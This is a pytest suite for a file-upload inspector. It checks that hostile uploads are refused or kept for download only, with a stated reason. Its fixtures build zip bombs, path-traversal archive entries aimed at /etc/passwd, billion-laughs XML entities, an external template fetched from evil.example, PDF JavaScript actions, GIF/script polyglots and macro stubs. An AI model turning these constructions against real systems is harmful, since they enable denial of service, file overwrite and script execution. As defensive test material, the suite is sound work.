"""Every class of hostile file is refused or kept for download alone, and says why."""

import io
import struct
import zipfile
from pathlib import Path
from typing import Protocol

import pytest

from tacit.files import sandbox
from tacit.files.reading import inspection, zips
from tacit.files.reading.inspection import Found
from tests.make import files as make_files


class Look(Protocol):
    """Look into bytes under a name."""

    def __call__(self, content: bytes, name: str = "file") -> Found: ...


LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
EXTERNAL = (
    f'<Relationships {make_files.LINKS}><Relationship Id="r1" TargetMode="External" '
    f'Type="{make_files.OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm"/>'
    "</Relationships>"
)
LINK = EXTERNAL.replace("attachedTemplate", "hyperlink")


@pytest.fixture
def look(tmp_path: Path) -> Look:
    def look_into(content: bytes, name: str = "file") -> Found:
        path = tmp_path / "upload"
        path.write_bytes(content)
        return inspection.inspect(path, name=name)

    return look_into


@pytest.mark.parametrize(
    ("content", "name", "media_type"),
    [
        (make_files.docx("Title", "Words"), "a.docx", "wordprocessingml.document"),
        (make_files.xlsx({"A1": 1.0}), "a.xlsx", "spreadsheetml.sheet"),
        (make_files.pdf("One", "Two"), "a.pdf", "application/pdf"),
        (make_files.png(), "a.png", "image/png"),
        (make_files.gif(), "a.gif", "image/gif"),
        (make_files.zipped({"index.html": "<!doctype html><p>Hi"}, stored=True), "a.zip", "zip"),
        (make_files.zipped({"a/b.pdf": make_files.pdf("x")}, stored=True), "a.zip", "zip"),
        (b"a,b\n1,2\n", "a.csv", "text/csv"),
        (b"# Title\n", "a.md", "text/markdown"),
        (b'{"a": 1}', "a.json", "application/json"),
        (b"print('hi')\n", "a.py", "text/x-python"),
        (b"<svg xmlns='x'><script>alert(1)</script></svg>", "a.svg", "image/svg+xml"),
        ("Grüße".encode("cp1252"), "a.txt", "text/plain"),
        ("中文\n".encode("utf-16"), "a.txt", "text/plain"),
        (b"", "empty.txt", "text/plain"),
    ],
)
def test_a_harmless_file_is_shown_under_the_type_of_its_bytes(
    look: Look, content: bytes, name: str, media_type: str
) -> None:
    found = look(content, name)
    assert found == Found(type=found.type)
    assert media_type in found.type


def _with(name: str, *, attributes: int = 0, flags: int = 0) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        entry = zipfile.ZipInfo("placeholder")
        entry.filename = name
        entry.external_attr = attributes << 16
        archive.writestr(entry, b"content")
    content = bytearray(target.getvalue())
    if flags:
        for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            content[content.index(mark) + at] |= flags
    return bytes(content)


def _nested(depth: int) -> bytes:
    content = make_files.zipped({"a.txt": "x"})
    for _ in range(depth):
        content = make_files.zipped({"inner.zip": content})
    return content


def _overlapping() -> bytes:
    """Two entries of the directory that name the same bytes."""
    one = make_files.zipped({"a.txt": "x" * 1_000, "b.txt": "y" * 1_000}, stored=True)
    content = bytearray(one)
    second = content.index(b"PK\x01\x02", content.index(b"PK\x01\x02") + 4)
    content[second + 42 : second + 46] = struct.pack("<I", 0)
    return bytes(content)


REFUSED = {
    "a bomb by its ratio": (make_files.zipped({"zeros": bytes(zips.RATIO_FROM_BYTES + 1)}), "bomb"),
    "a bomb by overlap": (_overlapping(), "bomb"),
    "archives in archives": (_nested(4), "deeper"),
    "too many files": (
        make_files.zipped({f"{n}": "" for n in range(zips.ENTRIES_MAX + 1)}),
        "more than",
    ),
    "a path that leads out": (_with("../../etc/passwd"), "leads out"),
    "a back slash": (_with("a\\..\\b"), "leads out"),
    "an absolute path": (_with("/etc/passwd"), "absolute"),
    "a drive": (_with("C:/windows"), "absolute"),
    "a link": (_with("link", attributes=0o120777), "link"),
    "a device": (_with("null", attributes=0o020666), "device"),
    "letters of two sizes": (make_files.zipped({"A.txt": "1", "a.TXT": "2"}), "one file"),
    "two forms of one letter": (
        make_files.zipped({"e\N{COMBINING ACUTE ACCENT}.txt": "1", "\xe9.txt": "2"}),
        "one file",
    ),
    "a file that is a folder": (make_files.zipped({"a": "1", "a/b": "2"}), "a file and a folder"),
    "a name that turns around": (_with("cod\N{RIGHT-TO-LEFT OVERRIDE}txt.exe"), "do not show"),
    "an encrypted entry": (_with("secret", flags=1), "encrypted"),
    "a program inside": (make_files.zipped({"tool.exe": b"MZ\x90\x00\x03\x00\x00\x00"}), "program"),
    "an archive with bytes before it": (b"PK\x03\x04" + b"x" * 60 + _with("a"), "before"),
    "a cut archive": (make_files.zipped({"a": "x" * 400})[:-30], "cannot be read"),
    "a program": (b"\x7fELF\x02\x01\x01" + bytes(60), "program"),
    "another packer": (b"\x1f\x8b\x08\x00" + bytes(60), "send a zip"),
    "a picture that unfolds": (make_files.png(told=(60_000, 60_000)), "bomb"),
    "entities that unfold": (make_files.docx("x", head=LAUGHS), "entities"),
    "entities in another part": (
        make_files.xlsx({"A1": 1}, more={"xl/styles.xml": LAUGHS + "<styleSheet/>"}),
        "entities",
    ),
    "markup in another encoding": (
        make_files.docx("x", more={"word/styles.xml": f"{LAUGHS}<a/>".encode("utf-16")}),
        "encoding",
    ),
}


@pytest.mark.parametrize("case", REFUSED)
def test_what_would_harm_its_reader_is_refused(look: Look, case: str) -> None:
    content, says = REFUSED[case]
    found = look(content)
    assert found.refused, found
    assert says in " ".join(found.reasons)


DOWNLOAD_ONLY = {
    "macros": (make_files.docx("x", more={"word/vbaProject.bin": b"\x00"}), "a.docx", "macros"),
    "macros in a sheet": (
        make_files.xlsx({"A1": 1}, more={"xl/vbaProject.bin": b"\x00"}),
        "a.xlsm",
        "macros",
    ),
    "old macros": (
        make_files.xlsx({"A1": 1}, more={"xl/macrosheets/sheet1.xml": "<a/>"}),
        "a.xlsx",
        "macros",
    ),
    "controls": (
        make_files.docx("x", more={"word/activeX/activeX1.xml": "<a/>"}),
        "a.docx",
        "controls",
    ),
    "files inside": (
        make_files.docx("x", more={"word/embeddings/oleObject1.bin": b"\x00"}),
        "a.docx",
        "inside",
    ),
    "a template from elsewhere": (
        make_files.docx("x", more={"word/_rels/settings.xml.rels": EXTERNAL}),
        "a",
        "elsewhere",
    ),
    "an old office file": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.doc", "macros"),
    "scripts in a PDF": (
        make_files.pdf("x", more=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "a.pdf",
        "JavaScript",
    ),
    "scripts in a PDF by another spelling": (
        make_files.pdf("x", more=b"/OpenAction << /S /J#61vaScript >>"),
        "a.pdf",
        "JavaScript",
    ),
    "an encrypted PDF": (
        make_files.pdf("x").replace(b"/Size", b"/Encrypt 9 0 R /Size"),
        "a.pdf",
        "encrypted",
    ),
    "a PDF that is a page": (
        make_files.pdf("x") + b"<html><script>alert(1)</script></html>",
        "a.pdf",
        "web page",
    ),
    "a PDF with an archive": (
        make_files.pdf("x") + make_files.zipped({"a": "b"}),
        "a.pdf",
        "archive is hidden",
    ),
    "a picture with an archive": (
        make_files.png() + make_files.zipped({"a": "b"}),
        "a.png",
        "archive is hidden",
    ),
    "a picture with a script behind": (make_files.gif() + b"*/alert(1)//", "a.gif", "behind"),
    "a picture that begins as a script": (
        make_files.gif(width=0x2A2F, height=1)[:-1] + b"\x21\xfe\x02*/\x00\x3b",
        "a.gif",
        "program",
    ),
    "a broken picture": (make_files.png()[:40], "a.png", "broken"),
    "a name that lies": (b"%PDF-1.4\n%%EOF\n", "holiday.png", "ends in .png"),
    "a document that is none": (make_files.zipped({"a": "b"}), "a.docx", "ends in .docx"),
    "bytes that nobody knows": (b"\x00\x01\x02\x03" * 30, "a.bin", "no type"),
}


@pytest.mark.parametrize("case", DOWNLOAD_ONLY)
def test_what_would_act_when_opened_is_for_download_alone(look: Look, case: str) -> None:
    content, name, says = DOWNLOAD_ONLY[case]
    found = look(content, name)
    assert not found.refused, found
    assert says in " ".join(found.reasons), found


def test_a_link_that_somebody_has_to_follow_is_no_reason(look: Look) -> None:
    document = make_files.docx("x", more={"word/_rels/document.xml.rels": LINK})
    assert look(document, "a.docx").reasons == ()


def test_a_file_that_breaks_its_process_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "gone"
    found = sandbox.inspect(path, name="a.txt", sha256="0" * 64)
    assert found.refused
    assert found.reasons == (sandbox.TOO_COSTLY,)
    path.write_bytes(b"words")
    monkeypatch.setattr(sandbox, "SECONDS_MAX", 0.001)
    assert sandbox.inspect(path, name="a.txt", sha256="0" * 64).refused
    assert "more time" in sandbox.show(path, media_type="text/plain").reason


def test_the_process_has_no_memory_to_unfold_a_bomb(tmp_path: Path) -> None:
    path = tmp_path / "bomb.zip"
    path.write_bytes(make_files.zipped({"zeros": bytes(zips.RATIO_FROM_BYTES + 1)}))
    found = sandbox.inspect(path, name="bomb.zip", sha256="0" * 64)
    assert found.refused
    assert "bomb" in found.reasons[0]
